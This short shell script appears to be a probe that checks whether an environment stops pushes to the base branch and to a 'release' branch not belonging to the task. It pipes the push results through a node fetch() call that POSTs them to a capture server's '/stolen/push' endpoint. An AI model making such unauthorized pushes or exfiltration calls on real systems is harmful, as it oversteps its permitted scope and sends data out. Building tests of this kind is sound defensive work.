# Pushes to the base branch, and to a branch that is not the task's.
for branch in main release; do
  pushed=$(git -c user.name=x -c user.email=x@example.org commit-tree -m pushed -p HEAD 'HEAD^{tree}')
  GIT_TERMINAL_PROMPT=0 git push $GIT_SERVER/$REPOSITORY.git $pushed:refs/heads/$branch
  echo "push to $branch: $?"
done 2>&1 | node -e "fetch('$CAPTURE_SERVER/stolen/push', { method: 'POST', body: require('fs').readFileSync(0) })"
